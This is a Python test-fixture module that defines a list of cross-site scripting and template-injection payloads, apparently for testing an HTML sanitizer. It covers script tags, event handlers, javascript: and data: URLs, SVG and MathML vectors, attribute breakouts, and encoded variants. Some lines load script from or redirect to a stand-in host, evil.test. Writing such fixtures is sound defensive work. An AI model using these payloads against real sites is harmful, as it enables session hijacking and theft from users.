"""Hostile strings for the XSS tests: script tags, event handlers, javascript:/data:/vbscript:
URLs, SVG and MathML, encoded and obfuscated variants, attribute and tag breakouts, CSS
expressions, frames, meta refresh, and template-injection strings. Each payload that
would run sets ``window.__xss`` (or opens a dialog) so a real browser can prove it did not."""
from __future__ import annotations

import html
from urllib.parse import quote

RUN = "window.__xss=1;alert(1)"

BASE: list[str] = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    "<script src=//evil.test/x.js></script>",
    f"<script>/*</script><script>{RUN}//*/</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</pre><script>{RUN}</script>",
    f"<img src=x onerror=\"{RUN}\">",
    f"<img src=x onerror={RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img/src/onerror={RUN}>",
    f"<img src=\"x\"onerror=\"{RUN}\">",
    f"<image src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=\"javascript:{RUN}\"><text x=20 y=20>x</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;{RUN}&lt;/script&gt;\"></iframe></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div onmouseover={RUN}>hover</div>",
    f"<a href=\"javascript:{RUN}\">click</a>",
    f"<a href=\"JaVaScRiPt:{RUN}\">click</a>",
    f"<a href=\"&#106;avascript:{RUN}\">click</a>",
    f"<a href=\"java&#x09;script:{RUN}\">click</a>",
    f"<a href=\"data:text/html,<script>{RUN}</script>\">click</a>",
    "<a href=\"vbscript:msgbox(1)\">click</a>",
    f"<form action=\"javascript:{RUN}\"><button>go</button></form>",
    f"<button formaction=\"javascript:{RUN}\">go</button>",
    f"<iframe src=\"javascript:{RUN}\"></iframe>",
    f"<iframe srcdoc=\"<script>{RUN}</script>\"></iframe>",
    "<iframe src=\"data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==\"></iframe>",
    f"<object data=\"javascript:{RUN}\"></object>",
    f"<embed src=\"javascript:{RUN}\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.__xss=1\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test/\">",
    "<base href=\"https://evil.test/\">",
    "<link rel=stylesheet href=\"https://evil.test/x.css\">",
    "<style>body{background:url(\"javascript:window.__xss=1\")}</style>",
    "<div style=\"width:expression(window.__xss=1)\">css</div>",
    "<div style=\"background-image:url(javascript:window.__xss=1)\">css</div>",
    "<style>@import 'https://evil.test/x.css';</style>",
    f"\"><script>{RUN}</script>",
    f"'><script>{RUN}</script>",
    f"\" onmouseover=\"{RUN}\" x=\"",
    f"' onmouseover='{RUN}' x='",
    f"\" autofocus onfocus=\"{RUN}\" x=\"",
    f"</a><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"<!--<img src=\"--><img src=x onerror={RUN}//\">",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<template><script>{RUN}</script></template>",
    f"<isindex action=javascript:{RUN} type=submit>",
    f"<x onclick={RUN}>tag</x>",
    f"<a href=\"https://ok.example/\" onclick=\"{RUN}\">ok</a>",
    f"javascript:{RUN}",
    f"JAVASCRIPT:{RUN}",
    f" javascript:{RUN}",
    f"\tjavascript:{RUN}",
    f"java\nscript:{RUN}",
    f"javascript&colon;{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "vbscript:msgbox(1)",
    "//evil.test/path",
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "{{ config.items() }}",
    "{% raw %}{{7*7}}{% endraw %}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "#{7*7}",
    "\u202e<script>window.__xss=1</script>",
    "<scr\u0000ipt>window.__xss=1</scr\u0000ipt>",
    "\ufeff<img src=x onerror=window.__xss=1>",
    "＜script＞window.__xss=1＜/script＞",
]

_MARKUP = [p for p in BASE if "<" in p][:20]
ENCODED: list[str] = (
    [html.escape(p) for p in _MARKUP[:8]]  # already-escaped text must stay text (no double decoding)
    + [quote(p) for p in _MARKUP[:8]]  # URL-encoded
    + ["".join(f"&#{ord(ch)};" for ch in p) for p in _MARKUP[:4]]  # decimal entities
    + ["".join(f"&#x{ord(ch):x};" for ch in p) for p in _MARKUP[:4]]  # hex entities
    + [p.upper() for p in _MARKUP[8:12]]
    + [p.replace(" ", "/") for p in _MARKUP[12:16]]
    + [p.replace("<", "\\u003c") for p in _MARKUP[:4]]  # JSON-style escapes
)

PAYLOADS: list[str] = list(dict.fromkeys(BASE + ENCODED))
